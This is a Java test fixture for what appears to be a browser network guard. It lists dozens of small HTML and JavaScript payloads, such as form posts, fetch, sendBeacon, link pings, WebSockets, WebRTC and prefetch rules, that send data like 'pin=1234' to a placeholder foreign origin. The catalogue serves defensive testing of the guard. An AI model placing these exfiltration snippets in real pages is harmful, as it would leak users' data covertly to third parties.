package dev.rote.browser;

import dev.rote.surface.Channel;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;

/// One way by which a page can send something to a stranger: a page that tries it, with `STRANGER` for the stranger's
/// origin, `PLACE` for its host and port, and `HERE` for the page's own place.
///
/// `reported` is what the guard says of it; empty where it is stopped before anybody asks, and then the page moves to
/// `#tried` when it has.
record Way(String name, String page, Optional<Channel> reported) {

    private static Way asked(String name, Channel reported, String page) {
        return new Way(name, page, Optional.of(reported));
    }

    private static Way script(String name, Channel reported, String script) {
        return asked(name, reported, "<body><script>" + script + "</script>");
    }

    private static Way silent(String name, String script) {
        return new Way(name, "<body><script>" + script + "</script>", Optional.empty());
    }

    private static Way rule(String name, String kind) {
        return new Way(
                name,
                "<script type=speculationrules>{\"%s\": [{\"source\": \"list\", \"eagerness\": \"immediate\","
                                .formatted(kind)
                        + "\"urls\": [\"STRANGER/rule\"]}]}</script><script>location.hash = 'tried'</script>",
                Optional.empty());
    }

    static List<Way> all() {
        return Stream.of(pages(), windowsAndFrames(), parts(), requests(), workersAndDownloads(), peers())
                .flatMap(List::stream)
                .toList();
    }

    private static List<Way> pages() {
        return List.of(
                script("a page that goes there", Channel.DOCUMENT, "location.href = 'STRANGER/page'"),
                asked(
                        "a page that refreshes there",
                        Channel.DOCUMENT,
                        "<meta http-equiv=refresh content='0;url=STRANGER/'>"),
                asked(
                        "a form that is sent",
                        Channel.DOCUMENT,
                        "<form method=post action=STRANGER/form><input name=pin value=1234></form>"
                                + "<script>document.forms[0].submit()</script>"),
                asked(
                        "a form that is sent into a new window",
                        Channel.DOCUMENT,
                        "<form method=post target=_blank action=STRANGER/form><input name=pin value=1234></form>"
                                + "<script>document.forms[0].submit()</script>"),
                script("a redirect of a page", Channel.DOCUMENT, "location.href = 'HEREredirect'"),
                asked("a redirect of an image", Channel.IMAGE, "<img src=HEREredirect>"),
                script("a redirect of a request", Channel.REQUEST, "fetch('HEREredirect').catch(() => 0)"));
    }

    private static List<Way> windowsAndFrames() {
        return List.of(
                script("a window that is opened", Channel.DOCUMENT, "window.open('STRANGER/popup')"),
                script(
                        "a window that is sent there later",
                        Channel.DOCUMENT,
                        "var w = window.open('about:blank'); setTimeout(() => w.location = 'STRANGER/later', 50)"),
                asked(
                        "a link with a target of its own",
                        Channel.DOCUMENT,
                        "<a href=STRANGER/link target=_blank rel=noopener>x</a><script>document.links[0].click()</script>"),
                asked("a frame", Channel.DOCUMENT, "<iframe src=STRANGER/frame></iframe>"),
                asked("a frameset", Channel.DOCUMENT, "<frameset><frame src=STRANGER/frame></frameset>"),
                asked("a request of a frame in another process", Channel.REQUEST, "<iframe src=APARTinner></iframe>"),
                asked("an object", Channel.DOCUMENT, "<object data=STRANGER/object.html type=text/html></object>"));
    }

    private static List<Way> parts() {
        return List.of(
                asked("an image", Channel.IMAGE, "<img src=STRANGER/image>"),
                asked("a style sheet", Channel.STYLE, "<link rel=stylesheet href=STRANGER/style.css>"),
                asked(
                        "a background of a style sheet",
                        Channel.IMAGE,
                        "<style>p { background: url(STRANGER/background) }</style><p>x"),
                asked(
                        "a font",
                        Channel.FONT,
                        "<style>@font-face { font-family: f; src: url(STRANGER/font) } p { font-family: f }</style><p>x"),
                asked("a script", Channel.SCRIPT, "<body><script src=STRANGER/script.js></script>"),
                script("a module", Channel.SCRIPT, "import('STRANGER/module.js').catch(() => 0)"),
                asked("a sound", Channel.MEDIA, "<audio preload=auto src=STRANGER/sound></audio>"));
    }

    private static List<Way> requests() {
        return List.of(
                script("fetch", Channel.REQUEST, "fetch('STRANGER/fetch', {mode: 'no-cors'}).catch(() => 0)"),
                script(
                        "fetch that is asked for first (CORS)",
                        Channel.REQUEST,
                        "fetch('STRANGER/cors', {method: 'PUT', headers: {x: 'y'}}).catch(() => 0)"),
                script(
                        "fetch on leaving",
                        Channel.REQUEST,
                        "onpagehide = () => fetch('STRANGER/leaving', {mode: 'no-cors', keepalive: true});"
                                + "setTimeout(() => location.href = 'HEREtried', 50)"),
                script(
                        "XMLHttpRequest",
                        Channel.REQUEST,
                        "var x = new XMLHttpRequest(); x.open('POST', 'STRANGER/xhr'); x.send('pin=1234')"),
                script("a beacon", Channel.REQUEST, "navigator.sendBeacon('STRANGER/beacon', 'pin=1234')"),
                new Way(
                        "the ping of a link",
                        "<a href=HEREtried ping=STRANGER/ping>x</a><script>document.links[0].click()</script>",
                        Optional.empty()),
                script("EventSource", Channel.EVENT_STREAM, "new EventSource('STRANGER/events')"),
                script("a WebSocket", Channel.CONNECTION, "new WebSocket('ws://PLACE/socket')"),
                script("a request over TLS", Channel.CONNECTION, "fetch('https://PLACE/tls').catch(() => 0)"));
    }

    private static List<Way> workersAndDownloads() {
        return List.of(
                script("a request of a worker", Channel.REQUEST, "new Worker('HEREworker.js')"),
                script("a request of a shared worker", Channel.REQUEST, "new SharedWorker('HEREworker.js')"),
                script(
                        "a request of a service worker",
                        Channel.REQUEST,
                        "navigator.serviceWorker.register('HEREworker.js')"),
                script(
                        "a script of a worker",
                        Channel.SCRIPT,
                        "new Worker(URL.createObjectURL(new Blob([\"importScripts('STRANGER/import.js')\"])))"),
                asked(
                        "a download",
                        Channel.DOCUMENT,
                        "<a href=STRANGER/file download>x</a><script>document.links[0].click()</script>"),
                asked("a prefetch", Channel.PREFETCH, "<link rel=prefetch href=STRANGER/prefetch>"),
                asked("a preload", Channel.IMAGE, "<link rel=preload as=image href=STRANGER/preload>"),
                asked("a report of a broken rule", Channel.REQUEST, "<iframe src=HEREreporting></iframe>"),
                asked("an icon", Channel.IMAGE, "<link rel=icon href=STRANGER/icon>"),
                rule("a prefetch by rules (Speculation Rules)", "prefetch"),
                rule("a page rendered in advance", "prerender"));
    }

    private static List<Way> peers() {
        return List.of(
                silent(
                        "WebRTC over UDP",
                        "var p = new RTCPeerConnection({iceServers: [{urls: 'stun:PLACE'}]}); p.createDataChannel('x');"
                                + "p.onicegatheringstatechange = () => p.iceGatheringState == 'complete'"
                                + " && (location.hash = 'tried');"
                                + "p.createOffer().then(o => p.setLocalDescription(o))"),
                script(
                        "WebRTC over TCP",
                        Channel.CONNECTION,
                        "var p = new RTCPeerConnection({iceServers: [{urls: 'turn:PLACE?transport=tcp', username: 'u',"
                                + "credential: 'c'}]}); p.createDataChannel('x');"
                                + "p.createOffer().then(o => p.setLocalDescription(o))"),
                silent(
                        "WebTransport",
                        "new WebTransport('https://PLACE/').ready.catch(() => location.hash = 'tried')"));
    }
}
